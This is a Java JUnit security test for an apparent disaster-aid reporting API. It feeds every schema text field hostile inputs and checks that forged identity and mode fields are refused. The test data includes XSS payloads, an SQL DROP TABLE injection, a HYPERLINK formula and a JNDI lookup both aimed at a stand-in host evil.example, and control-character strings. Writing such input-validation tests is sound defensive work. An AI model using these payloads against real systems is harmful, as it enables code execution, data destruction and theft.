package kizuna.producers;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import kizuna.codes.DenialCode;
import kizuna.codes.FactKind;
import kizuna.facts.AccessDenied;
import kizuna.producers.OpenDoor.Answer;
import kizuna.producers.OpenDoor.Appended;
import kizuna.schemas.form.FactForm;
import org.apache.avro.Schema;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * Every text field of every fact kind, found in the schema itself, gets what attackers write: it is
 * refused with its name, or taken as the text that it is.
 */
class HostileTextTest {

  private static final JsonMapper JSON = new JsonMapper();

  /** What a free text takes, and nobody obeys. */
  private static final Map<String, String> ODD =
      Map.of(
          "script", "<script>alert(1)</script>",
          "broken attribute", "\"><img src=x onerror=alert(1)>",
          "formula", "=HYPERLINK(\"http://evil.example\",\"x\")",
          "template", "${jndi:ldap://evil.example/a} {{7*7}}",
          "query", "'; DROP TABLE dispatches; --");

  /** What no text takes. */
  private static final Map<String, String> WRONG =
      Map.of(
          "right-to-left override", "\u202e10名",
          "isolate", "\u206610名",
          "NUL", "a\u0000b",
          "escape", "\u001b[2J",
          "C1", "a\u0085b",
          "10,000 characters", "長".repeat(10_000));

  private OpenDoor door;

  @BeforeEach
  void open() {
    door = new OpenDoor();
  }

  @AfterEach
  void shut() {
    door.close();
  }

  @Test
  void everyTextOfEveryFactIsTakenAsItIsOrRefusedByName() throws Exception {
    JsonNode examples = examples();
    Set<String> free = new TreeSet<>();
    List<String> wrong = new ArrayList<>();
    int fields = 0;
    for (FactKind kind : FactAssembler.reportable()) {
      JsonNode example = examples.path(FactForm.name(kind));
      assertThat(example.isObject()).as("an example of %s", kind).isTrue();
      for (List<String> path : texts(FactForm.schema(kind), new ArrayList<>())) {
        fields++;
        String name = FactForm.name(kind) + "." + String.join(".", path);
        boolean takesText = send(kind, example, path, "輪島市の体育館").status() == 202;
        if (takesText) {
          free.add(name);
        }
        Map<String, String> all = new LinkedHashMap<>(ODD);
        all.putAll(WRONG);
        for (Map.Entry<String, String> hostile : all.entrySet()) {
          int before = door.taken().size();
          Answer answer = send(kind, example, path, hostile.getValue());
          boolean taken = door.taken().size() > before;
          boolean expected = takesText && ODD.containsKey(hostile.getKey());
          String said =
              problem(
                  answer,
                  expected,
                  taken,
                  path,
                  hostile.getValue(),
                  taken ? door.taken().get(before) : null);
          if (!said.isEmpty()) {
            wrong.add(name + ", " + hostile.getKey() + ": " + said);
          }
        }
      }
    }
    assertThat(wrong).isEmpty();
    assertThat(fields).as("text fields of all kinds").isGreaterThan(60);
    assertThat(free)
        .as("free texts")
        .contains(
            "AidRequested.damage",
            "AidRequested.place",
            "AidRequested.route",
            "DisasterDeclared.name",
            "AgreementSigned.title",
            "OverrideMade.reason",
            "AidRequestDocumented.documentNumber",
            "MunicipalitiesListed.municipalities.name");
  }

  private static String problem(
      Answer answer,
      boolean expected,
      boolean taken,
      List<String> path,
      String text,
      @org.jspecify.annotations.Nullable Appended fact) {
    if (answer.status() != (expected ? 202 : 400) || taken != expected) {
      return "expected " + (expected ? 202 : 400) + ", but " + answer.status() + answer.body();
    }
    if (!answer.header("X-Content-Type-Options").equals("nosniff")) {
      return "expected nosniff, but " + answer.response().headers();
    }
    if (fact != null) {
      return AvroText.of(FactForm.bodyOf(fact.fact())).contains(text) ? "" : "the text was changed";
    }
    if (!answer.header("Content-Type").startsWith("application/problem+json")) {
      return "expected a problem, but " + answer.header("Content-Type");
    }
    return answer.body().path("errors").toString().contains(path.get(0))
        ? ""
        : "expected " + path.get(0) + " to be named, but " + answer.body();
  }

  /** All texts of a record, wherever. */
  private static final class AvroText {
    static List<String> of(Object value) {
      List<String> texts = new ArrayList<>();
      if (value instanceof CharSequence text) {
        texts.add(text.toString());
      } else if (value instanceof Iterable<?> list) {
        list.forEach(v -> texts.addAll(of(v)));
      } else if (value instanceof org.apache.avro.generic.IndexedRecord inner) {
        for (Schema.Field field : inner.getSchema().getFields()) {
          Object v = inner.get(field.pos());
          if (v != null) {
            texts.addAll(of(v));
          }
        }
      }
      return texts;
    }
  }

  /** Paths to every text in a schema: a field that comes tomorrow is among them. */
  private static List<List<String>> texts(Schema schema, List<String> path) {
    List<List<String>> found = new ArrayList<>();
    switch (schema.getType()) {
      case STRING -> {
        if (schema.getLogicalType() == null) {
          found.add(List.copyOf(path));
        }
      }
      case UNION -> schema.getTypes().forEach(t -> found.addAll(texts(t, path)));
      case ARRAY -> found.addAll(texts(schema.getElementType(), path));
      case RECORD -> {
        for (Schema.Field field : schema.getFields()) {
          List<String> inner = new ArrayList<>(path);
          inner.add(field.name());
          found.addAll(texts(field.schema(), inner));
        }
      }
      default -> {}
    }
    return found;
  }

  private Answer send(FactKind kind, JsonNode example, List<String> path, String text)
      throws Exception {
    ObjectNode body = JSON.createObjectNode();
    body.put("kind", FactForm.name(kind));
    if (example.has("kind")) {
      body.put(FactAssembler.nameOfKind(kind), FactForm.name(kind));
    }
    body.setAll((ObjectNode) example.deepCopy());
    put(body, FactForm.schema(kind), path, text);
    return door.post(ReportRoute.ANY, body.toString());
  }

  private static void put(ObjectNode into, Schema record, List<String> path, String text) {
    String name = path.get(0);
    Schema type = given(record.getField(name).schema());
    if (type.getType() == Schema.Type.ARRAY) {
      ArrayNode array = into.path(name) instanceof ArrayNode a ? a : into.putArray(name);
      if (path.size() == 1) {
        array.insert(0, text);
      } else {
        ObjectNode first = array.path(0) instanceof ObjectNode o ? o : array.addObject();
        put(first, given(type.getElementType()), path.subList(1, path.size()), text);
      }
    } else if (path.size() == 1) {
      into.put(name, text);
    } else {
      ObjectNode inner = into.path(name) instanceof ObjectNode o ? o : into.putObject(name);
      put(inner, type, path.subList(1, path.size()), text);
    }
  }

  private static Schema given(Schema schema) {
    return schema.getType() == Schema.Type.UNION
        ? schema.getTypes().stream()
            .filter(t -> t.getType() != Schema.Type.NULL)
            .findFirst()
            .orElseThrow()
        : schema;
  }

  private static JsonNode examples() throws IOException {
    try (var in = ReportController.class.getResourceAsStream("examples.json")) {
      return JSON.readTree(in);
    }
  }

  /** Whoever writes what the record could not hold would else leave no trace. */
  @Test
  void anAttemptIsOnRecordWhateverItsPathSays() throws Exception {
    String ward = OpenDoor.TOKENS.bearer("WARD", "131041");
    List<String> paths =
        List.of("%C2%85", "%E2%80%AE", "%E2%81%A6x", "%F0%A9%B8%BD".repeat(300), "%3Cscript%3E");
    for (String id : paths) {
      Answer answer =
          door.post("/api/requests/" + id + "/amend", "{\"headCount\":3}", "Authorization", ward);
      assertThat(answer.status()).isEqualTo(403);
    }

    List<AccessDenied> denials = door.denials(paths.size());
    assertThat(denials)
        .hasSize(paths.size())
        .allSatisfy(d -> assertThat(d.getCode()).isEqualTo(DenialCode.NOT_OF_ROLE))
        .allSatisfy(d -> assertThat(d.getAbout()).doesNotMatch(".*[\\p{Cc}\\p{Cf}].*"));
    assertThat(door.taken()).isEmpty();
  }

  /** Whom it is by, when, and where it counts is never what the sender says. */
  @Test
  void nobodyStampsAFactButTheDoor() throws Exception {
    String desk = OpenDoor.TOKENS.bearer("DESK", "172049");
    String request =
        examples()
            .path("AidRequested")
            .toString()
            .replaceFirst("^\\{", "{\"network\":\"tokyo23\",");
    List<String> forged =
        List.of(
            "\"account\":\"coordinator\"",
            "\"mode\":\"LIVE\"",
            "\"mode\":\"EXERCISE\"",
            "\"recordedAt\":\"2020-01-01T00:00:00Z\"",
            "\"drill\":\"noto-1\"",
            "\"role\":\"OPERATOR\"",
            "\"reporter\":{\"role\":\"DESK\",\"body\":\"172057\"}",
            "\"reporter\":{\"role\":\"COORDINATOR\",\"body\":\"tokyo23\"}",
            "\"reporter\":{\"role\":\"SYSTEM\",\"body\":\"kizuna\"}");
    for (String field : forged) {
      Answer answer =
          door.post(
              "/api/requests",
              request.replaceFirst("^\\{", "{" + field + ","),
              "Authorization",
              desk);
      assertThat(answer.status()).as(field + answer.body()).isBetween(400, 404);
      assertThat(answer.header("Content-Type")).startsWith("application/problem+json");
    }
    for (String query : List.of("?drill=noto-1", "?network=osaka", "?drill=a&drill=b", "?mode=x")) {
      Answer answer = door.post("/api/requests" + query, request, "Authorization", desk);
      assertThat(answer.status()).as(query).isIn(400, 404);
    }
    assertThat(door.taken()).isEmpty();

    // The same without them is taken, and stamped from the token.
    assertThat(door.post("/api/requests", request, "Authorization", desk).status()).isEqualTo(202);
    assertThat(door.taken().get(0).fact().getAccount()).isEqualTo("a-DESK-172049");
    assertThat(door.taken().get(0).fact().getReporter().getBody()).isEqualTo("172049");
  }
}
